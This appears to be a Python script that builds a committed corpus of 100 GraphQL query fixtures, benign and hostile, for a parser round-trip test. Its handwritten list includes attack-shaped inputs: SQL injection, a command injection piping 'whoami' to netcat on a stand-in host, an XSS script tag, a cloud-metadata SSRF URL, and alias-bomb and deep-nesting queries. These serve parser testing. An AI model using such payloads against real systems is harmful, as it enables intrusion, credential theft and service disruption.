#!/usr/bin/env python3
"""Build the committed 100-document query corpus (benign + attack shapes)
used by the parser round-trip acceptance check."""

import random
from pathlib import Path

import sys
sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests"))

from generators import gen_document_with_fragments, gen_schema  # noqa: E402

OUT = Path(__file__).resolve().parent.parent / "tests" / "fixtures" / "documents"

HANDWRITTEN = [
    "{ me { id } }",
    "query A { a } query B { b }",
    "mutation M($bio: String) { updateProfile(bio: $bio) { id } }",
    "subscription S { watch { events } }",
    'query Named($first: Int = 10, $q: String) @cached { search(q: $q) { hits(first: $first) { id } } }',
    "{ user(name: \"bob\") { id name } }",
    "{ u(f: {names: [\"a\", \"b\"], nested: {deep: [1, 2.5, null, true, RED]}}) }",
    "{ ...F } fragment F on Query { id }",
    "fragment A on T { x ...B } fragment B on T { y } { ...A }",
    "{ a { ... on User { id } ... @skip(if: false) { alt } } }",
    "{ x: a y: a z: a }",
    "{ a @include(if: true) @skip(if: false) @custom(level: 3) }",
    "query @opLevel { a }",
    "{ deep { deep { deep { deep { deep { deep { deep { leaf } } } } } } } }",
    "{ __schema { types { name fields { name } } } }",
    "{ a { __type(name: \"User\") { name } } }",
    "{ search(q: \"' OR '1'='1' --\") { id } }",
    "{ run(cmd: \"ls; whoami | nc evil 4444\") }",
    "{ render(html: \"<script>alert(1)</script>\") }",
    "{ fetch(url: \"http://169.254.169.254/latest/meta-data/\") }",
    "{ fetch(url: \"aHR0cDovLzEyNy4wLjAuMS8=\") }",
    "query Batch1 { a } query Batch2 { b } query Batch3 { c } query Batch4 { d }",
    "{ f(s: \"escaped \\\" quote \\\\ slash \\n newline \\u00e9\") }",
    "{ f(block: \"\"\"multi\n  line\n  block\"\"\") }",
    "{ emoji(s: \"\\ud83d\\ude00 snowman \\u2603\") }",
    "{ friends(first: 0) { id } }",
    "{ friends(first: -1) { id } }",
    "{ huge(limit: 2147483647) { id } }",
    "{ f(neg: -42, float: -2.5e-3, big: 1e10) }",
    "# leading comment\n{ a } # trailing comment",
    "{ a, b, c, }",
    "query VarDirective($x: Boolean = false @onVar) { a @include(if: $x) }",
]


def alias_bomb(n):
    return "{ " + " ".join(f"a{i}: field{i % 7} {{ sub }}" for i in range(n)) + " }"


def deep_query(depth):
    source = "leaf"
    for i in range(depth):
        source = f"l{i} {{ {source} }}"
    return "{ " + source + " }"


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    for old in OUT.glob("*.graphql"):
        old.unlink()
    docs = list(HANDWRITTEN)
    docs.append(alias_bomb(150))
    docs.append(deep_query(40))
    docs.append("query D { " + " ".join(
        f"f @d{i}(x: {i})" for i in range(60)) + " }")

    rng = random.Random(2024)
    while len(docs) < 100:
        schema = gen_schema(rng)
        source, _ = gen_document_with_fragments(rng, schema)
        docs.append(source)

    for index, source in enumerate(docs[:100]):
        (OUT / f"doc_{index:03d}.graphql").write_text(source + "\n",
                                                      encoding="utf-8")
    print(f"wrote {min(len(docs), 100)} documents to {OUT}")


if __name__ == "__main__":
    main()
